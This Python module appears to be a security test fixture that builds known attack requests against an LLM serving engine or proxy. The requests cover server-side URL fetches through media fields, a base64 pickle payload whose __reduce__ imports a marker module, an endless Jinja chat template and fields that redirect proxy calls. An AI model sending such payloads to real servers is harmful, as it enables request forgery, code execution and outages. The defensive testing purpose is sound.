"""Requests of attacks that were published against engines and proxies like this one: what they
have, beyond a plain request, by the path that it goes to."""

from __future__ import annotations

import base64
import pickle
from collections.abc import Iterator
from typing import Any

CHAT, RESPONSES, MESSAGES = "/v1/chat/completions", "/v1/responses", "/v1/messages"
COMPLETIONS, TOKENIZE, EMBEDDINGS = "/v1/completions", "/tokenize", "/v1/embeddings"
GENERATOR, EMBEDDER, SCORER = "talker", "embedder", "scorer"
"""Models that bodies name."""

ENDLESS_TEMPLATE = "{% for i in range(999999999) %}{{ messages }}{% endfor %}"
FOREIGN_FIELDS = ("api_base", "base_url", "post_call_rules", "litellm_params", "callbacks")
"""By which a proxy's requests, or its code, could be led elsewhere."""


class Evil:
    """What leaves a mark when it is read as a pickle: a module of this name is imported."""

    def __reduce__(self) -> Any:
        return __import__, ("antigravity",)


def pickled() -> str:
    return base64.b64encode(pickle.dumps(Evil())).decode()


def user(*parts: Any) -> list[dict[str, Any]]:
    return [{"role": "user", "content": list(parts)}]


def fetching(url: str) -> Iterator[tuple[str, dict[str, Any]]]:
    """Requests that would have the server fetch a URL."""
    generator: dict[str, Any] = {"model": GENERATOR, "max_tokens": 2}
    embedder: dict[str, Any] = {"model": EMBEDDER}
    for kind in ("image_url", "audio_url", "video_url"):
        media = {"type": kind, kind: {"url": url}}
        yield CHAT, generator | {"messages": user(media)}
        yield TOKENIZE, {"model": GENERATOR, "messages": user(media)}
        yield EMBEDDINGS, embedder | {"messages": user(media)}
        yield "/pooling", embedder | {"messages": user(media)}
        yield "/score", {"model": SCORER, "queries": "a", "documents": {"content": [media]}}
    for kind in ("image_embeds", "audio_embeds"):
        tensor = {"type": kind, kind: pickled()}
        yield EMBEDDINGS, embedder | {"messages": user(tensor)}
        yield CHAT, generator | {"messages": user(tensor)}
    yield "/v2/embed", {"model": EMBEDDER, "images": [url]}
    image = {"type": "input_image", "image_url": url, "detail": "auto"}
    yield RESPONSES, {"model": GENERATOR, "input": user(image)}
    source = {"type": "image", "source": {"type": "url", "url": url}}
    yield MESSAGES, generator | {"messages": user(source)}


def templates() -> Iterator[tuple[str, dict[str, Any]]]:
    """Requests that bring a chat template of their own."""
    hello: dict[str, Any] = {"messages": [{"role": "user", "content": "hello"}]}
    brought: list[dict[str, Any]] = [
        {"chat_template": ENDLESS_TEMPLATE},
        {"chat_template_kwargs": {"chat_template": ENDLESS_TEMPLATE}},
    ]
    for own in brought:
        yield CHAT, {"model": GENERATOR, **hello, **own}
        yield f"{CHAT}/render", {"model": GENERATOR, **hello, **own}
        yield TOKENIZE, {"model": GENERATOR, **hello, **own}
        yield EMBEDDINGS, {"model": EMBEDDER, **hello, **own}
        yield "/pooling", {"model": EMBEDDER, **hello, **own}
